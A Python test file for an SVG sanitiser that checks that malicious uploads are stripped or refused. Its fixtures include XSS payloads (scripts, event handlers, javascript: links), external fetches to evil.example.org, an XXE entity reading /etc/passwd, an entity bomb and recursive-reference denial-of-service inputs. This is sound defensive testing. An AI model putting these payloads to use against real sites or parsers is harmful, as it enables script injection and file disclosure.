"""An SVG is made anew of shapes, numbers and colours; nothing else that a file can hold comes through."""

import re
from typing import Any
from xml.etree.ElementTree import fromstring

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coalition.identity import svg
from coalition.identity.svg import (
    HasDefinitions,
    HasLetters,
    HasNoSize,
    NotAPicture,
    PictureRefused,
    ShowsNothing,
    TooLarge,
    clean_svg,
)
from tests.coalition.identity.builders import PLAIN_SVG, SVG

SHAPE = '<path d="M0 0h9v9z"/>'
LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def a_svg(inside: str, *, on_root: str = "") -> bytes:
    return f'<svg xmlns="{SVG}" viewBox="0 0 10 10" {on_root}>{inside}{SHAPE}</svg>'.encode()


HOSTILE = {
    "script": a_svg("<script>alert(1)</script>"),
    "script in CDATA": a_svg("<script><![CDATA[alert(1)]]></script>"),
    "script from elsewhere": a_svg(f'<script {LINK} xlink:href="https://evil.example.org/x.js"/>'),
    "script under a prefix": a_svg(f'<s:script xmlns:s="{SVG}">alert(1)</s:script>'),
    "script of HTML": a_svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "a handler on the root": a_svg("", on_root='onload="alert(1)"'),
    "a handler on a shape": a_svg('<path d="M0 0" onclick="alert(1)" OnMouseOver="alert(1)"/>'),
    "a handler of XML events": a_svg(
        '<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="load" handler="#x"/><handler id="x">alert(1)</handler>'
    ),
    "a link that runs": a_svg(f'<a {LINK} xlink:href="javascript:alert(1)">{SHAPE}</a>'),
    "a link that leads away": a_svg(f'<a href="https://evil.example.org/">{SHAPE}</a>'),
    "a page inside": a_svg(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example.org"/></body></foreignObject>'
    ),
    "an image from elsewhere": a_svg('<image href="https://evil.example.org/seen.png" width="9" height="9"/>'),
    "an image from this machine": a_svg('<image href="file:///etc/passwd" width="9" height="9"/>'),
    "an image inside": a_svg('<image href="data:image/svg+xml;base64,PHN2Zz4=" width="9" height="9"/>'),
    "a part of another file": a_svg(f'<use {LINK} xlink:href="https://evil.example.org/x.svg#a"/>'),
    "a style sheet": a_svg(
        '<style>@import "https://evil.example.org/x.css"; path{fill:url(https://evil.example.org)}</style>'
    ),
    "a style sheet named before": b'<?xml-stylesheet href="https://evil.example.org/x.css"?>' + a_svg(""),
    "a style that asks elsewhere": a_svg(
        '<path d="M0 0" style="fill:url(https://evil.example.org/x#a);stroke:#123456"/>'
    ),
    "a style in disguise": a_svg(
        r'<path d="M0 0" style="fill:\75\72\6c(https://evil.example.org);background:image(x)"/>'
    ),
    "a paint that asks elsewhere": a_svg('<path d="M0 0" fill="url(//evil.example.org/x#a)"/>'),
    "a paint that asks twice": a_svg('<path d="M0 0" fill="url(#a) url(https://evil.example.org#b)"/>'),
    "a paint in quotes": a_svg("""<path d="M0 0" fill="url('https://evil.example.org#b')"/>"""),
    "a paint of a file beside it": a_svg('<path d="M0 0" fill="url(x.svg#b)" stroke="URL(x.svg)"/>'),
    "a paint by another function": a_svg('<path d="M0 0" fill="image-set(x 1x)" stroke="var(--x)" color="env(x)"/>'),
    "a filter that asks elsewhere": a_svg('<filter id="f"><feImage href="https://evil.example.org/x"/></filter>'),
    "an animation that sets a link": a_svg(
        '<set attributeName="href" to="javascript:alert(1)"/><animate attributeName="d"/>'
    ),
    "a cursor": a_svg('<path d="M0 0" cursor="url(https://evil.example.org/c)"/>'),
    "a base": a_svg("", on_root='xml:base="https://evil.example.org/"'),
    "a picture in a picture": a_svg(f'<svg onload="alert(1)">{SHAPE}</svg>'),
    "clips in clips": a_svg(
        "".join(
            f'<clipPath id="c{n}"><path d="M0 0" clip-path="url(#c{n + 1})"/><path d="M0 0" clip-path="url(#c{n + 1})"/></clipPath>'
            for n in range(30)
        )
        + '<path d="M0 0" clip-path="url(#c0)"/>'
    ),
    "masks in masks": a_svg('<mask id="m"><path d="M0 0" mask="url(#m)"/></mask><path d="M0 0" mask="url(#m)"/>'),
    "shapes by reference": a_svg('<defs><g id="a"><use href="#a"/><use href="#a"/></g></defs><use href="#a"/>'),
    "a pattern": a_svg('<pattern id="p"><path d="M0 0" fill="url(#p)"/></pattern><path d="M0 0" fill="url(#p)"/>'),
    "a marker": a_svg('<marker id="m"><path d="M0 0" marker-end="url(#m)"/></marker>'),
    "a gradient from elsewhere": a_svg('<linearGradient href="https://evil.example.org/#a" id="b"/>'),
    "comments": a_svg("<!-- <script>alert(1)</script> -->"),
    "an identifier that is no name": a_svg('<path d="M0 0" id="&quot;&gt;&lt;script&gt;"/>'),
    "an entity of a letter": a_svg('<path d="M0 0" fill="&#x6a;avascript:alert(1)"/>'),
    "an encoding in disguise": b'<?xml version="1.0" encoding="utf-7"?>' + a_svg("<script>x</script>"),
    "what the drawing program wrote": a_svg(
        '<metadata>x</metadata><i:namedview xmlns:i="https://example.org/i" onload="x"/>',
        on_root='data-x="1" class="y"',
    ),
}
REFUSED = {
    "nothing": (b"", NotAPicture),
    "no XML": (b"<svg", NotAPicture),
    "a page": (b"<html><script>alert(1)</script></html>", NotAPicture),
    "sixteen bits a letter": (a_svg("").decode().encode("utf-16"), NotAPicture),
    "no letters": (b"<svg>\x00</svg>", NotAPicture),
    "an entity of its own": (
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + a_svg("&x;"),
        HasDefinitions,
    ),
    "entities in entities": (b'<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>' + a_svg("&b;"), HasDefinitions),
    "a second document type": (b"<!DOCTYPE svg><!DOCTYPE svg>" + a_svg(""), HasDefinitions),
    "nests": (a_svg("<g>" * 500 + "</g>" * 500), NotAPicture),
    "links in links": (a_svg("<a>" * 500 + SHAPE + "</a>" * 500), NotAPicture),
    "no shape": (f'<svg xmlns="{SVG}" viewBox="0 0 9 9"><image/></svg>'.encode(), ShowsNothing),
    "letters alone": (f'<svg xmlns="{SVG}" viewBox="0 0 9 9"><text>x</text></svg>'.encode(), HasLetters),
    "letters": (a_svg("<text>Placeholder</text>"), HasLetters),
    "letters in parts": (a_svg("<g><text>\n<tspan/> Placeholder</text></g>"), HasLetters),
    "letters in a symbol": (a_svg("<symbol><text><tspan>x</tspan></text></symbol>"), HasLetters),
    "letters on a path": (a_svg('<text><textPath href="#a">x</textPath></text>'), HasLetters),
    "letters of a page": (
        a_svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'),
        HasLetters,
    ),
    "letters in many letters": (a_svg("<text>" * 9000 + "</text>" * 9000 + "<text>x</text>"), HasLetters),
    "no size": (f'<svg xmlns="{SVG}">{SHAPE}</svg>'.encode(), HasNoSize),
    "a size that is none": (f'<svg xmlns="{SVG}" viewBox="0 0 nan inf">{SHAPE}</svg>'.encode(), HasNoSize),
    "a line": (f'<svg xmlns="{SVG}" viewBox="0 0 900 9">{SHAPE}</svg>'.encode(), HasNoSize),
    "too many shapes": (a_svg(SHAPE * 2000), TooLarge),
    "a large file": (a_svg(" " * 600_000), TooLarge),
}

FORBIDDEN = re.compile(r"script|:|@|&|\\|<\?|<!|\bon\w+=|evil|data-|expression", re.IGNORECASE)


def assert_only_draws(content: bytes) -> None:
    written = content.decode()
    rest = written.replace(f'xmlns="{SVG}"', "", 1)
    assert not FORBIDDEN.search(rest), rest
    assert re.findall(r"url\([^#]", rest, re.IGNORECASE) == []
    root = fromstring(written)
    for one in root.iter():
        name = one.tag.removeprefix("{" + SVG + "}")
        assert name in svg._ELEMENTS
        assert set(one.attrib) <= svg._PAINT | svg._GEOMETRY | {"href", "viewBox"}
        assert not (name == "clipPath" and any("clip-path" in inside.attrib for inside in one.iter()))
    assert clean_svg(content).content == content


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_what_is_not_on_the_list_is_left_out_of_what_is_served(content: bytes):
    assert_only_draws(clean_svg(content).content)


@pytest.mark.parametrize(("content", "error"), REFUSED.values(), ids=REFUSED)
def test_what_is_no_picture_or_too_much_is_refused(content: bytes, error: type[PictureRefused]):
    with pytest.raises(error):
        clean_svg(content)


_names = st.sampled_from(
    [
        "svg",
        "g",
        "path",
        "a",
        "switch",
        "use",
        "script",
        "style",
        "clipPath",
        "mask",
        "linearGradient",
        "image",
        "foreignObject",
    ]
)
_keys = st.sampled_from(
    ["d", "fill", "style", "href", "onload", "id", "clip-path", "transform", "width", "x", "class", "stroke", "points"]
)
_values = st.one_of(
    st.sampled_from(
        ["url(#a)", "url(https://evil.example.org)", "javascript:x", "#123456", "M0 0h9", "fill:url(//evil)", "1"]
    ),
    st.text(st.sampled_from("url(#a):;@&<>\"'\\/ \n\t1"), max_size=12),
)


def _written(tree: tuple[str, dict[str, str], list[object]]) -> str:
    from html import escape

    name, attributes, inside = tree
    attributes = {key: value for key, value in attributes.items() if value.isprintable()}
    written = "".join(f' {key}="{escape(value)}"' for key, value in attributes.items())
    return f"<{name}{written}>{''.join(_written(one) for one in inside)}</{name}>"  # type: ignore[arg-type]


_trees: st.SearchStrategy[Any] = st.recursive(
    st.tuples(_names, st.dictionaries(_keys, _values, max_size=4), st.just([])),
    lambda inside: st.tuples(_names, st.dictionaries(_keys, _values, max_size=4), st.lists(inside, max_size=4)),
    max_leaves=12,
)


@settings(max_examples=150)
@given(_trees)
def test_whatever_an_svg_holds_what_is_served_only_draws(tree: tuple[str, dict[str, str], list[object]]):
    assert_only_draws(clean_svg(a_svg(_written(tree))).content)


def test_a_plain_logo_stays_as_it_was_drawn():
    clean = clean_svg(PLAIN_SVG)

    assert (
        clean.content
        == (
            f'<svg xmlns="{SVG}" viewBox="0 0 120 40" width="120" height="40"><g fill="#17466e">'
            '<path d="M0 0h40v40H0z" /><circle cx="80" cy="20" r="18" /></g></svg>'
        ).encode()
    )
    assert (clean.width, clean.height, clean.left_out) == (120, 40, ())


def test_it_says_what_was_left_out_and_nothing_of_what_nobody_sees():
    drawn = a_svg("<title>x</title><metadata/><script/><text/><a>" + SHAPE + "</a>", on_root='onload="x"')

    assert clean_svg(drawn).left_out == ("a", "onload", "script", "text")


def test_styles_that_drawing_programs_write_become_attributes():
    drawn = a_svg('<path d="M0 0" fill="#000000" style="fill:#a01c1c; stroke : none;-inkscape-x:1"/>')

    assert b'fill="#a01c1c" stroke="none"' in clean_svg(drawn).content


def test_gradients_that_take_their_colours_from_another_keep_them():
    drawn = a_svg(
        f'<linearGradient id="a"/><linearGradient {LINK} id="b" xlink:href="#a"/><path d="M0 0" fill="url(#b)"/>'
    )

    assert b'<linearGradient id="b" href="#a" /><path d="M0 0" fill="url(#b)" />' in clean_svg(drawn).content


def test_a_document_type_that_says_nothing_is_no_hindrance():
    doctype = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'

    assert (
        clean_svg(b'<?xml version="1.0" encoding="utf-8"?>\n' + doctype + PLAIN_SVG).content
        == clean_svg(PLAIN_SVG).content
    )
